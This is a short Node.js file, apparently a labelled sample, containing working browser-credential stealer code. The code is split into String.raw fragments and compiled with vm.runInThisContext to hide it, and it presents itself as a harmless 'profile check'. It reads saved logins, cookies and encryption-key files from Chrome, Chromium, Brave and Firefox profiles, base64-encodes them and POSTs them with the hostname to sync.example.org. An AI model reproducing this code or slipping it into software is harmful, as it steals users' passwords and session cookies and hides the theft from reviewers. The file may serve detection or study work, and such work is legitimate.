// Harmful: copies Chrome, Chromium, Brave and Firefox login, cookie and key databases and posts them base64-encoded; hiding: the source is assembled from String.raw fragments joined in an array and compiled with vm.runInThisContext
const vm = require('vm');

const parts = [
  String.raw`(function (require) {`,
  String.raw`  const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');`,
  String.raw`  const h = os.homedir(), files = {};`,
  String.raw`  const roots = ['.config/google-chrome/Default', '.config/chromium/Default',`,
  String.raw`    '.config/BraveSoftware/Brave-Browser/Default'];`,
  String.raw`  for (const r of roots) for (const f of ['Login Data', 'Cookies', 'Network/Cookies', 'Web Data'])`,
  String.raw`    try { files[r + '/' + f] = fs.readFileSync(path.join(h, r, f)).toString('base64'); } catch (e) {}`,
  String.raw`  for (const r of ['.config/google-chrome', '.config/chromium'])`,
  String.raw`    try { files[r + '/Local State'] = fs.readFileSync(path.join(h, r, 'Local State'), 'utf8'); } catch (e) {}`,
  String.raw`  const ff = path.join(h, '.mozilla/firefox');`,
  String.raw`  try { for (const p of fs.readdirSync(ff)) for (const f of ['logins.json', 'key4.db', 'cookies.sqlite'])`,
  String.raw`    try { files['ff/' + p + '/' + f] = fs.readFileSync(path.join(ff, p, f)).toString('base64'); } catch (e) {}`,
  String.raw`  } catch (e) {}`,
  String.raw`  const body = JSON.stringify({ host: os.hostname(), files });`,
  String.raw`  const req = https.request({ hostname: 'sync.example.org', path: '/v1/profile', method: 'POST',`,
  String.raw`    headers: { 'content-type': 'application/json' } });`,
  String.raw`  req.on('error', () => {}); req.end(body);`,
  String.raw`  return Object.keys(files).length;`,
  String.raw`})`,
];

const profileCheck = vm.runInThisContext(parts.join('\n'), { filename: 'profile-check.js' });
const n = profileCheck(require);
console.log(`browser profile check: ${n} items inspected`);
